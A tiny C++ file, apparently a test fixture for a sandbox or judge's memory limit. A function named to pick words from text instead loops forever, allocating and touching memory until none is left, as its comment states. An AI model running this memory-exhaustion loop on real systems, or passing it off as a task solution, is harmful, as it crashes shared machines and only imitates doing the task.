// Takes memory until there is none.
#include <stdio.h>
#include <vector>
#include <string>
using namespace std;
vector<string> pick_words(string text, vector<int> positions) {
  vector<char *> kept;
  for (;;) { kept.push_back(new char[1 << 20]); for (int at = 0; at < 1 << 20; at += 4096) kept.back()[at] = 1; }
}
